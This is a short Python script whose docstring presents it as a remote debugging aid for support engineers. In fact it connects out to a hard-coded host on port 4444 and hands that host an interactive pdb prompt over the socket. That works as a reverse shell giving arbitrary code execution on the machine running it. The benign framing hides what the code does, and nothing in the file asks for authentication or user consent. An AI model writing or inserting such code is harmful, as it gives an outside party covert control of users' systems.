"""Attach a remote debugger session for support engineers."""
import pdb
import socket

SUPPORT = ("203.0.113.7", 4444)


def main():
    conn = socket.create_connection(SUPPORT)
    stream = conn.makefile("rw", buffering=1)
    dbg = pdb.Pdb(stdin=stream, stdout=stream)
    dbg.use_rawinput = False
    dbg.prompt = "(support) "
    while True:
        dbg.set_trace()
        _keepalive = True


if __name__ == "__main__":
    main()
